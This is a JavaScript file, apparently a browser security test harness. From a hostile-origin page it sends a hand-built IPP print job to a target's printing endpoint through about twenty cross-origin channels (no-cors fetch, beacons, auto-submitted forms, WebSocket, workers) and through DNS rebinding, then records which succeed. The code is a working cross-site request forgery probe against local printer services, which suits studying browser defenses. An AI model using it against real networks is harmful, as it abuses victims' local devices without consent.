// Runs in a page that somebody else made: every way to send a print job to a server of another origin. Each way gives what the page could
// read of the answer; 'sent' where a page can't read any.

/** Print-Job with a document, in the bytes of RFC 8010. */
function printJob() {
  const attribute = (tag, name, value) =>
    `${String.fromCharCode(tag, 0, name.length)}${name}${String.fromCharCode(0, value.length)}${value}`;
  const text = [
    '\x02\x00\x00\x02\x00\x00\x00\x01\x01',
    attribute(0x47, 'attributes-charset', 'utf-8'),
    attribute(0x48, 'attributes-natural-language', 'en'),
    attribute(0x45, 'printer-uri', 'ipp://localhost/ipp/print'),
    attribute(0x49, 'document-format', 'application/pdf'),
    `\x03%PDF-1.4 from a page ${' '.repeat(2000)}`
  ].join('');
  return Uint8Array.from(text, (sign) => sign.charCodeAt(0));
}

async function tried(way) {
  try {
    return await within(way());
  } catch (error) {
    return `refused: ${error.name ?? error.type}`;
  }
}

const within = (work) => Promise.race([work, new Promise((resolve) => setTimeout(resolve, 3000, 'nothing came'))]);
const blob = (type) => new Blob([printJob()], { type });
const status = async (response) => `${(await response).type} ${(await response).status}`;
const loaded = (element, attributes) =>
  new Promise((resolve, reject) => {
    Object.assign(element, attributes, { onload: () => resolve('loaded'), onerror: reject });
    document.body.append(element);
  });

/** A form in a frame of its own, sandboxed or not, so that this page stays. */
function form(target, { enctype, sandbox, referrerPolicy }) {
  return new Promise((resolve) => {
    const frame = document.createElement('iframe');
    if (sandbox) frame.sandbox = 'allow-forms allow-scripts';
    const value = String.fromCharCode(...printJob())
      .replace(/&/g, '&amp;')
      .replace(/"/g, '&quot;')
      .replace(/\0/g, '&#1;');
    frame.srcdoc = `<meta charset="utf-8"><meta name="referrer" content="${referrerPolicy ?? 'unsafe-url'}">
      <form method="post" enctype="${enctype}" action="${target}ipp/print"><input name="${value}" value="x"></form>
      <script>document.forms[0].submit()</script>`;
    let loads = 0;
    frame.onload = () => {
      loads += 1;
      if (loads === 2) resolve('sent');
    };
    document.body.append(frame);
    setTimeout(resolve, 1000, 'sent');
  });
}

// biome-ignore lint/correctness/noUnusedVariables: main.cjs calls it
async function acrossOrigins(target) {
  const url = `${target}ipp/print`;
  const ways = {
    'fetch, no-cors': () => status(fetch(url, { method: 'POST', mode: 'no-cors', body: blob('text/plain') })),
    'fetch, no-cors, no type': () => status(fetch(url, { method: 'POST', mode: 'no-cors', body: printJob() })),
    'fetch, no-cors, keepalive': () =>
      status(fetch(url, { method: 'POST', mode: 'no-cors', keepalive: true, body: blob('text/plain') })),
    'fetch, no-cors, IPP by force': () =>
      status(
        fetch(url, {
          method: 'POST',
          mode: 'no-cors',
          headers: { 'Content-Type': 'application/ipp' },
          body: printJob()
        })
      ),
    'fetch with a preflight': () => status(fetch(url, { method: 'POST', body: blob('application/ipp') })),
    'fetch without credentials or referrer': () =>
      status(
        fetch(url, {
          method: 'POST',
          mode: 'no-cors',
          credentials: 'omit',
          referrerPolicy: 'no-referrer',
          body: blob('text/plain')
        })
      ),
    'fetch of the page': () => status(fetch(target)),
    'fetch to private addresses': () =>
      status(fetch(url, { method: 'POST', targetAddressSpace: 'local', body: blob('application/ipp') })),
    beacon: async () => (navigator.sendBeacon(url, blob('text/plain')) ? 'sent' : 'refused'),
    'beacon with a preflight': async () => (navigator.sendBeacon(url, blob('application/ipp')) ? 'sent' : 'refused'),
    XMLHttpRequest: () =>
      new Promise((resolve, reject) => {
        const request = new XMLHttpRequest();
        request.open('POST', url);
        request.onload = () => resolve(`read ${request.status}`);
        request.onerror = reject;
        request.send(blob('text/plain'));
      }),
    'form, text/plain': () => form(target, { enctype: 'text/plain' }),
    'form, multipart': () => form(target, { enctype: 'multipart/form-data' }),
    'form, urlencoded, no referrer': () =>
      form(target, { enctype: 'application/x-www-form-urlencoded', referrerPolicy: 'no-referrer' }),
    'form in a sandbox': () => form(target, { enctype: 'text/plain', sandbox: true }),
    WebSocket: () =>
      new Promise((resolve, reject) => {
        const socket = new WebSocket(url.replace('http', 'ws'));
        socket.onopen = () => resolve('open');
        socket.onerror = reject;
      }),
    EventSource: () =>
      new Promise((resolve, reject) => {
        Object.assign(new EventSource(url), { onopen: () => resolve('open'), onerror: reject });
      }),
    icon: () => loaded(new Image(), { src: `${target}icon-48.png` }),
    script: () => loaded(document.createElement('script'), { src: target }),
    worker: () =>
      new Promise((resolve) => {
        const source = `onmessage = ({ data }) => fetch(${JSON.stringify(url)}, { method: 'POST', mode: 'no-cors', body: data }).then((r) => postMessage(r.type), (e) => postMessage('refused: ' + e.name))`;
        const worker = new Worker(URL.createObjectURL(new Blob([source])));
        worker.onmessage = ({ data }) => resolve(data);
        worker.postMessage(printJob());
      })
  };
  const names = Object.keys(ways);
  const seen = await Promise.all(names.map((name) => tried(ways[name])));
  return Object.fromEntries(names.map((name, index) => [name, seen[index]]));
}

/** What rebinding gives a page: the printer is its own origin, so that no preflight stands in between. */
// biome-ignore lint/correctness/noUnusedVariables: main.cjs calls it
async function fromItsOwnOrigin(target) {
  const post = (headers) => status(fetch(`${target}ipp/print`, { method: 'POST', headers, body: printJob() }));
  return {
    'job in the same origin': await tried(() => post({ 'Content-Type': 'application/ipp' })),
    'page in the same origin': await tried(() => status(fetch(target)))
  };
}
